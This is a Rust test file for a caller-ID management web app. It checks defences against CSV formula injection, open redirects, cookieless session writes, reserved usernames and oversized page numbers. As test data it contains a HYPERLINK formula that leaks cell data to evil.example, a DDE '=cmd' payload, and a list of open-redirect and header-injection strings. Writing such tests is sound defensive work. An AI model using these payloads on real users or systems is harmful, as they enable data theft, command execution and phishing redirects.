//! Hostile input closed off: spreadsheet formulas in the CSV exports, open redirects through
//! `next`, cookieless visitors writing sessions, a client's request id, reserved names,
//! refusals and downloads in the audit log, and page numbers past the end.

use crate::helpers::{PASSWORD, TestApp, location};
use callerdesk::{
    audit::{StoredEvent, event_hash},
    domain::Role,
    spreadsheet,
};
use reqwest::StatusCode;
use std::process::Command;

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Open")"#;

/// Every cell of a CSV document, header row included.
fn cells(csv_text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// No cell a spreadsheet would run.
fn assert_no_formulas(csv_text: &str) {
    for row in cells(csv_text) {
        for cell in row {
            assert!(
                !cell
                    .trim_start_matches(' ')
                    .starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell:?}"
            );
        }
    }
}

/// The events of an audit CSV export, read back by the rule docs/audit-log.md gives.
fn events_from_csv(csv_text: &str) -> Vec<StoredEvent> {
    let rows = cells(csv_text);
    rows[1..]
        .iter()
        .map(|row| {
            let text = |i: usize| spreadsheet::original_optional(&row[i]).map(str::to_owned);
            let required = |i: usize| text(i).unwrap();
            let number = |i: usize| text(i).map(|n| n.parse::<i64>().unwrap());
            StoredEvent {
                id: number(0).unwrap(),
                occurred_at: required(1),
                actor_id: number(2),
                actor_name: required(3),
                client_ip: text(4),
                user_agent: text(5),
                request_id: text(6),
                action: required(7),
                phone_number: text(8),
                verification_id: text(9),
                outcome: required(10),
                plivo_api_id: text(11),
                plivo_status: number(12),
                details: text(13),
                prev_hash: required(14),
                hash: required(15),
            }
        })
        .collect()
}

#[tokio::test]
async fn a_formula_in_a_user_agent_is_text_in_both_csv_exports_and_still_checks_out() {
    let app = TestApp::spawn().await;
    app.add_user("ivy", Role::Auditor).await;
    // A stranger fails a sign-in with a formula for a browser name and a request id, and an
    // empty request header beside them.
    let stranger = reqwest::Client::builder()
        .cookie_store(true)
        .redirect(reqwest::redirect::Policy::none())
        .user_agent(FORMULA)
        .build()
        .unwrap();
    let page = stranger
        .get(format!("{}/login", app.base))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let token = crate::helpers::csrf_in(&page).unwrap();
    let r = stranger
        .post(format!("{}/login", app.base))
        .header("origin", &app.base)
        .header("x-request-id", "=1+2")
        .form(&[
            ("username", "@SUM(1)"),
            ("password", "wrong wrong wrong"),
            ("csrf_token", &token),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    // The request id is ours, not the client's.
    let ours = r.headers()["x-request-id"].to_str().unwrap().to_owned();
    assert_ne!(ours, "=1+2");
    let stored: (Option<String>, Option<String>) = sqlx::query_as(
        "SELECT user_agent, request_id FROM audit_events WHERE action = 'sign_in' AND outcome = 'failed'",
    )
    .fetch_one(&app.state.db.reader)
    .await
    .unwrap();
    assert_eq!(stored, (Some(FORMULA.to_owned()), Some(ours)));

    let mut ivy = app.browser();
    ivy.sign_in("ivy", PASSWORD).await;
    let from_page = ivy
        .get("/audit/export?format=csv")
        .await
        .text()
        .await
        .unwrap();
    let from_command_line = Command::new(env!("CARGO_BIN_EXE_callerdesk"))
        .args(["audit", "export", "--format", "csv", "--database"])
        .arg(app.db_path())
        .output()
        .unwrap();
    assert!(from_command_line.status.success());
    let from_command_line = String::from_utf8(from_command_line.stdout).unwrap();

    for export in [&from_page, &from_command_line] {
        assert_no_formulas(export);
        assert!(export.contains(&format!("'{}", FORMULA.replace('"', "\"\""))));
        // Read back by the documented rule, every event's hash and link check out.
        let events = events_from_csv(export);
        assert!(events.len() >= 3);
        let mut prev = "0".repeat(64);
        for event in &events {
            assert_eq!(event.prev_hash, prev, "event {}", event.id);
            assert_eq!(event_hash(event), event.hash, "event {}", event.id);
            prev = event.hash.clone();
        }
        assert!(
            events
                .iter()
                .any(|e| e.user_agent.as_deref() == Some(FORMULA))
        );
    }
    // And the script in docs/audit-log.md agrees.
    let file = app.dir.path().join("audit.csv");
    std::fs::write(&file, &from_command_line).unwrap();
    let doc = include_str!("../../docs/audit-log.md");
    let script = doc
        .split("```python\n")
        .nth(3)
        .unwrap()
        .split("```")
        .next()
        .unwrap();
    let out = Command::new("python3")
        .args(["-c", script])
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success() && String::from_utf8_lossy(&out.stdout).starts_with("intact"),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[tokio::test]
async fn the_caller_id_download_has_no_formulas_and_is_recorded() {
    let app = TestApp::spawn().await;
    app.verify_at_plivo("+12025550143", "=cmd|' /C calc'!A0")
        .await;
    app.sync().await.unwrap();
    let mut olive = app.signed_in("olive", Role::Operator).await;
    let csv_text = olive.get("/caller-ids.csv").await.text().await.unwrap();
    assert_no_formulas(&csv_text);
    assert!(csv_text.contains("'=cmd|"), "{csv_text}");
    let recorded: (String, String) = sqlx::query_as(
        "SELECT actor_name, details FROM audit_events WHERE action = 'caller_ids_exported'",
    )
    .fetch_one(&app.state.db.reader)
    .await
    .unwrap();
    assert_eq!(recorded.0, "olive");
    assert!(recorded.1.contains(r#""rows":"#), "{}", recorded.1);
}

#[tokio::test]
async fn next_goes_only_to_paths_on_this_site() {
    let app = TestApp::spawn().await;
    app.add_user("amy", Role::Admin).await;
    let hostile = [
        "/\t/evil.example",
        "/%09/evil.example",
        "/\r\nSet-Cookie: x=1",
        "/%0d%0aSet-Cookie:%20x=1",
        "/\n/evil.example",
        "/ /evil.example",
        "/%20/evil.example",
        "//evil.example",
        "/\\evil.example",
        "/%5Cevil.example",
        "%2F%2Fevil.example",
        "/%2F/evil.example",
        "/%252F/evil.example",
        "https://evil.example/",
        "http:/evil.example",
        "evil.example",
        "javascript:alert(1)",
        "",
        "/\u{85}/evil.example",
        "/\u{3000}evil.example",
    ];
    let mut signed_in = app.browser();
    signed_in.sign_in("amy", PASSWORD).await;
    for next in hostile {
        // Signing in with it.
        let mut browser = app.browser();
        browser.page("/login").await;
        let r = browser
            .post(
                "/login",
                &[("username", "amy"), ("password", PASSWORD), ("next", next)],
            )
            .await;
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(location(&r), "/", "{next:?}");
        // Opening the sign-in page with it while signed in.
        let url = format!(
            "/login?next={}",
            url::form_urlencoded::byte_serialize(next.as_bytes()).collect::<String>()
        );
        let r = signed_in.get(&url).await;
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(location(&r), "/", "{next:?}");
    }
    // The raw form of the report: a tab in the query, not encoded by the client.
    let r = signed_in.get("/login?next=/%09/evil.example").await;
    assert_eq!(location(&r), "/");
    for local in [
        "/users",
        "/caller-ids/12025550143?tab=history",
        "/audit?person=1",
    ] {
        let url = format!(
            "/login?next={}",
            url::form_urlencoded::byte_serialize(local.as_bytes()).collect::<String>()
        );
        assert_eq!(location(&signed_in.get(&url).await), local);
    }
}

async fn session_rows(app: &TestApp) -> i64 {
    sqlx::query_scalar("SELECT COUNT(*) FROM tower_sessions")
        .fetch_one(&app.state.db.reader)
        .await
        .unwrap()
}

#[tokio::test]
async fn a_thousand_cookieless_requests_write_no_session() {
    let app = TestApp::spawn().await;
    app.add_user("amy", Role::Admin).await;
    let before = session_rows(&app).await;
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let paths = [
        "/login",
        "/",
        "/verify",
        "/audit",
        "/login?next=/users",
        "/setup",
    ];
    for n in 0..1000 {
        let path = paths[n % paths.len()];
        let r = client
            .get(format!("{}{path}", app.base))
            .send()
            .await
            .unwrap();
        assert!(r.status().is_success() || r.status().is_redirection() || r.status() == 404);
    }
    // A form sent without a cookie is refused, and writes nothing either.
    let r = client
        .post(format!("{}/login", app.base))
        .header("origin", &app.base)
        .form(&[
            ("username", "amy"),
            ("password", PASSWORD),
            ("csrf_token", "x.y"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert_eq!(session_rows(&app).await, before);
    // The sign-in page works from its own token: signing in writes the one session.
    let mut amy = app.browser();
    assert_eq!(
        amy.sign_in("amy", PASSWORD).await.status(),
        StatusCode::SEE_OTHER
    );
    assert_eq!(session_rows(&app).await, before + 1);
}

#[tokio::test]
async fn reserved_names_cannot_be_taken_by_a_user() {
    let app = TestApp::spawn().await;
    let mut admin = app.signed_in("ada", Role::Admin).await;
    admin.page("/users").await;
    for name in ["system", "Anonymous", "SYSTEM"] {
        let r = admin
            .post(
                "/users",
                &[
                    ("username", name),
                    ("password", PASSWORD),
                    ("role", "operator"),
                ],
            )
            .await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{name}");
        assert!(r.text().await.unwrap().contains("kept for the audit log"));
    }
    let users: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM users")
        .fetch_one(&app.state.db.reader)
        .await
        .unwrap();
    assert_eq!(users, 1);
}

#[tokio::test]
async fn a_refused_request_is_an_audit_event_with_the_reason() {
    let app = TestApp::spawn().await;
    let mut aaron = app.signed_in("aaron", Role::Auditor).await;
    let mut olive = app.signed_in("olive", Role::Operator).await;
    let r = aaron
        .post("/verify", &[("number", "202-555-0143"), ("channel", "sms")])
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = olive.post("/caller-ids/12025550143/delete", &[]).await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let refused: Vec<(String, String, String)> = sqlx::query_as(
        "SELECT actor_name, outcome, details FROM audit_events WHERE action = 'access_refused' ORDER BY id",
    )
    .fetch_all(&app.state.db.reader)
    .await
    .unwrap();
    assert_eq!(refused.len(), 2, "{refused:?}");
    assert_eq!(
        (refused[0].0.as_str(), refused[0].1.as_str()),
        ("aaron", "failed")
    );
    assert!(refused[0].2.contains("/verify") && refused[0].2.contains("may not verify numbers"));
    assert_eq!(refused[1].0, "olive");
    assert!(
        refused[1].2.contains("may not delete caller IDs"),
        "{}",
        refused[1].2
    );
}

#[tokio::test]
async fn a_page_number_past_the_end_shows_the_last_page() {
    let app = TestApp::spawn().await;
    let mut olive = app.signed_in("olive", Role::Operator).await;
    for page in [
        "9223372036854775807",
        "-9223372036854775808",
        "99999999999999999999",
        "2",
    ] {
        let (status, body) = olive.page(&format!("/?page={page}")).await;
        assert_eq!(status, StatusCode::OK, "{page}");
        assert!(!body.contains("Something went wrong"), "{page}");
    }
}
